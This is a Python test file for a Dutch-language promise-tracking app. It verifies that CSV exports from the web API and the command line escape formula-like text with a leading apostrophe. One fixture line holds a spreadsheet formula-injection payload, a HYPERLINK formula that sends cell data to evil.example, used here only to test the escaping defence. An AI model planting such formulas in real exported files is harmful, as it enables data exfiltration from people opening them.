"""Text a spreadsheet would run as a formula (an editor's reason "=HYPERLINK(...)") reaches
every CSV download as plain text: a leading apostrophe, never a live formula."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from beloftemeter.config import Settings
from beloftemeter.csv_cells import cell
from beloftemeter.models.review import ReviewEdit
from beloftemeter.pipeline.review import save_review
from beloftemeter.store import open_store
from beloftemeter.store.promise_ids import ids_by_key
from beloftemeter.web.app import create_app
from support import cli
from support.assessed_store import TRAM, build

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


@pytest.fixture(scope="module")
def store_url(tmp_path_factory):
    url = f"sqlite:///{tmp_path_factory.mktemp('csv') / 'opslag.db'}"
    with open_store(url) as store:
        build(store)
        bikes = ids_by_key(store)[(TRAM, 1)]
        save_review(store, ReviewEdit(bikes, 0, "an", {}, status="in voorbereiding",
                                      reason=FORMULA))
    return url


def _reasons(text: str) -> list[str]:
    return [row["reason"] for row in csv.DictReader(io.StringIO(text))]


def test_formula_like_text_becomes_plain_text_and_other_cells_stay():
    assert [cell(v) for v in ("=1+1", "+32", "-5", "@SUM(A1)", "\tx", "\rx")] == [
        "'=1+1", "'+32", "'-5", "'@SUM(A1)", "'\tx", "'\rx"]
    assert [cell(v) for v in ("Een reden.", 3, -5, None, ["a", "b"])] == [
        "Een reden.", 3, -5, "", "a b"]


def test_the_web_exports_never_carry_a_live_formula(store_url):
    app = create_app(Settings(store_url=store_url, embedder="geen"))
    with TestClient(app) as client:
        for path in ("/api/export.csv", "/api/beloften.csv"):
            reasons = _reasons(client.get(path).text)
            assert "'" + FORMULA in reasons, path
            assert not any(r.startswith(("=", "+", "-", "@")) for r in reasons), path


def test_the_command_lines_csv_never_carries_a_live_formula(store_url):
    result = cli.run("--opslag", store_url, "beloften", "lijst", "--csv",
                     env={"BELOFTEMETER_EMBEDDER": "geen"})
    assert result.returncode == 0, result.stderr
    assert "'" + FORMULA in _reasons(result.stdout)
